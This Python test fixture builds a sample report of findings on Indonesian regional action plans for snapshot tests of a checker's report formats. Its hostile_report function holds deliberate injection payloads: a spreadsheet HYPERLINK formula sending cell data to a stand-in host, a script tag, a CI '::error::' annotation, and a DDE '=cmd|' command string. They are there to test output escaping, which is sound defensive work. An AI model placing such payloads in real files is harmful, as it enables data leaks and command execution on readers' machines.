"""A small, realistic report built in code: the input of every report-format test.

Two documents (a canonical workbook and a text extract of a real rencana aksi), findings of
every severity at realistic addresses, one accepted finding and one unreadable input. The
rules are written here, not read from ``rules/``, so that editing a rule's wording does not
change these snapshots.
"""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

from checker.dsl.ast import Pos, Rule
from checker.model.finding import Finding, ItemRef, Severity
from checker.model.location import Location
from checker.model.plan import Document
from checker.reports.base import Report
from checker.reports.xlsx import fixed_zip

XLSX = "rencana.xlsx"
TEXT = "000_a618195849f537cf.txt"
RA = "RA-2024"
TXT_DOC = "000_a618195849f537cf#rencana_aksi"


def _doc(what: str, why: str, bad: str, fix: str, basis: str) -> dict[str, str]:
    sections = (("Apa yang diperiksa", what), ("Mengapa penting", why),
                ("Contoh yang salah", bad), ("Perbaikan", fix), ("Dasar hukum", basis))
    return {"id": "\n".join(f"## {h}\n{text}" for h, text in sections)}


def rules() -> dict[str, Rule]:
    specs = [
        ("TGT-001", "target-triwulan", "error",
         "Target triwulan (periodik) tidak berjumlah sama dengan target tahunan",
         "Quarterly targets (periodic) do not add up to the annual target",
         "PermenPANRB 53/2014 Lampiran III (Rencana Aksi)"),
        ("KLP-001", "kelengkapan", "error", "Sub kegiatan tanpa indikator kinerja",
         "Sub-activity without a performance indicator", "Permendagri 86/2017"),
        ("KLP-003", "kelengkapan", "warning", "Sub kegiatan tanpa penanggung jawab",
         "Sub-activity without a responsible official", "PermenPANRB 53/2014"),
        ("ROL-001", "rollup-anggaran", "error",
         "Anggaran induk tidak sama dengan jumlah anggaran di bawahnya",
         "A parent's budget differs from the sum of its children's budgets",
         "Permendagri 90/2019; Permendagri 77/2020"),
        ("NUM-002", "angka", "warning", "Pemisah angka berbeda dengan kebiasaan kolomnya",
         "Number separators contradict the column's convention", "praktik reviu APIP"),
        ("STR-004", "struktur", "info", "Tabel dikenali tetapi dilewati",
         "Table recognised but skipped", "praktik reviu APIP"),
    ]
    out = {}
    for code, category, severity, title_id, title_en, basis in specs:
        out[code] = Rule(
            code=code, file="rules/contoh.rules", pos=Pos(1, 1),
            title={"id": title_id, "en": title_en}, category=category, severity=severity,
            basis=basis, source="dsl",
            doc=_doc(f"Pemeriksaan {code}: `{title_id}`.", "Reviu APIP memerlukannya.",
                     "Target TW 21; 21; 21; 21, target tahunan 85.",
                     "Perbaiki sel yang ditunjuk.", basis))
    return out


def documents() -> list[Document]:
    return [
        Document(id=RA, jenis="rencana_aksi", path=XLSX, instansi="Dinas Sosial",
                 pemda="Kabupaten Contoh", tahun=2024),
        Document(id=TXT_DOC, jenis="rencana_aksi", path=TEXT, instansi="Dinas Sosial",
                 pemda="Kabupaten Lombok Timur", tahun=2024),
    ]


def findings() -> list[Finding]:
    sub = ItemRef(level="sub_kegiatan", kode="1.06.02.2.01.0001",
                  nama="Penyediaan Permakanan")
    keg = ItemRef(level="kegiatan", kode="1.06.06.2.01",
                  nama="Pemberdayaan Sosial Komunitas Adat Terpencil (KAT)")
    return [
        Finding(code="TGT-001", category="target-triwulan", severity=Severity.ERROR,
                message={"id": "Target TW I–IV (21; 21; 21; 21) berjumlah 84, sedangkan "
                               "target tahunan 85.",
                         "en": "Quarterly targets (21, 21, 21, 21) add up to 84, but the "
                               "annual target is 85."},
                document=RA, location=Location(file=XLSX, table="Indikator", row=12,
                                               column="E"),
                item=sub, actual=84, expected=85,
                suggestion={"id": "Sesuaikan salah satu target triwulan agar jumlahnya 85.",
                            "en": "Adjust one quarterly target so they add up to 85."}),
        Finding(code="KLP-001", category="kelengkapan", severity=Severity.ERROR,
                message={"id": 'Sub kegiatan "Penyediaan Sandang" tidak memiliki indikator '
                               "kinerja.",
                         "en": 'Sub-activity "Penyediaan Sandang" has no performance '
                               "indicator."},
                document=RA, location=Location(file=XLSX, table="Program_Kegiatan", row=7,
                                               column="F"),
                item=ItemRef(level="sub_kegiatan", kode="1.06.02.2.01.0002",
                             nama="Penyediaan Sandang"), expected=1),
        Finding(code="ROL-001", category="rollup-anggaran", severity=Severity.ERROR,
                message={"id": 'Anggaran kegiatan "Pemberdayaan Sosial KAT" Rp 1.628.000.000, '
                               "sedangkan jumlah anggaran 3 baris di bawahnya Rp 1.627.500.000 "
                               "(selisih Rp 500.000).",
                         "en": 'The budget of kegiatan "Pemberdayaan Sosial KAT" is '
                               "Rp 1,628,000,000, but its 3 child rows add up to "
                               "Rp 1,627,500,000 (difference Rp 500,000)."},
                document=TXT_DOC,
                location=Location(file=TEXT, table="RENCANA AKSI ESELON III", row=31,
                                  column="J"),
                item=keg, actual=1628000000, expected=1627500000,
                suggestion={"id": "Periksa anggaran baris-baris di bawahnya.",
                            "en": "Check the child rows' budgets."}),
        Finding(code="NUM-002", category="angka", severity=Severity.WARNING,
                message={"id": "Angka 58,957,000.00 memakai pemisah gaya Inggris di kolom "
                               "yang memakai gaya Indonesia.",
                         "en": "58,957,000.00 uses English separators in a column written "
                               "the Indonesian way."},
                document=TXT_DOC,
                location=Location(file=TEXT, table="RENCANA AKSI ESELON IV", row=88,
                                  column="L"),
                actual="58,957,000.00"),
        Finding(code="STR-004", category="struktur", severity=Severity.INFO,
                message={"id": "Tabel tanda tangan dilewati: bukan tabel rencana.",
                         "en": "Signature table skipped: not a plan table."},
                document=TXT_DOC, location=Location(file=TEXT, table="PENUTUP", row=140)),
    ]


def suppressed() -> list[Finding]:
    return [Finding(code="KLP-003", category="kelengkapan", severity=Severity.WARNING,
                    message={"id": 'Sub kegiatan "Penyediaan Alat Bantu" tidak memiliki '
                                   "penanggung jawab.",
                             "en": 'Sub-activity "Penyediaan Alat Bantu" has no responsible '
                                   "official."},
                    document=RA, location=Location(file=XLSX, table="Program_Kegiatan",
                                                   row=9, column="I"),
                    item=ItemRef(level="sub_kegiatan", kode="1.06.02.2.01.0003",
                                 nama="Penyediaan Alat Bantu"))]


def sample_report(lang: str = "id") -> Report:
    """The report every snapshot is made from."""
    errors = {"id": "lampiran.xls: format .xls lama tidak didukung; simpan sebagai .xlsx",
              "en": "lampiran.xls: the old .xls format is not supported; save it as .xlsx"}
    return Report(documents=documents(), findings=findings(), rules=rules(), lang=lang,
                  inputs=[XLSX, TEXT], errors=[errors[lang]], suppressed=suppressed(),
                  tool_version="0.1.0")


HOSTILE = ('=HYPERLINK("http://contoh.invalid/?x="&A1,"klik") <script>alert(1)</script> '
           "**tebal** | 50%, a:b\r\n::error::palsu")


def hostile_report() -> Report:
    """A report whose document text tries to be a formula, markup and a command."""
    f = Finding(code="KLP-001", category="kelengkapan", severity=Severity.ERROR,
                message={"id": HOSTILE, "en": HOSTILE}, document=RA,
                location=Location(file=XLSX, table="Program_Kegiatan", row=7, column="F"),
                item=ItemRef(level="sub_kegiatan", kode="+62 811", nama=HOSTILE),
                actual="-1+2", expected="@SUM(A1)",
                suggestion={"id": "\t=cmd|' /C calc'!A0", "en": "\t=cmd|' /C calc'!A0"})
    return Report(documents=documents(), findings=[f], rules=rules(), lang="id",
                  inputs=[XLSX], tool_version="0.1.0")


def write_input_workbook(folder: Path) -> Path:
    """The ``rencana.xlsx`` the findings point into, with a comment and a merged cell."""
    from openpyxl import Workbook
    from openpyxl.comments import Comment

    book = Workbook()
    ws = book.active
    ws.title = "Program_Kegiatan"
    ws.append(["dokumen", "id", "induk", "level", "kode", "nama", "eselon", "sasaran",
               "penanggung_jawab", "anggaran"])
    for row in range(2, 12):
        ws.append([RA, f"S{row}", "K1", "sub_kegiatan", f"1.06.02.2.01.{row:04d}",
                   f"Sub kegiatan {row}", "IV", None, None, 1000000 * row])
    ws["F7"] = "Penyediaan Sandang"
    ws["F7"].comment = Comment("Catatan perencana: nama dari DPA.", "Bappeda")
    ind = book.create_sheet("Indikator")
    ind.append(["dokumen", "item", "uraian", "satuan", "target", "target_tw1", "target_tw2",
                "target_tw3", "target_tw4"])
    for row in range(2, 14):
        ind.append([RA, f"S{row}", f"Jumlah penerima {row}", "Orang", 85, 21, 21, 21, 21])
    ind.merge_cells("C20:D20")
    book.properties.created = dt.datetime(2024, 1, 15, 8, 0, 0)
    raw = io.BytesIO()
    book.save(raw)  # openpyxl stamps the save time: fix it, as a real file's would be
    path = folder / XLSX
    path.write_bytes(fixed_zip(raw.getvalue(), dt.datetime(2024, 2, 1, 9, 30, 0)))
    return path
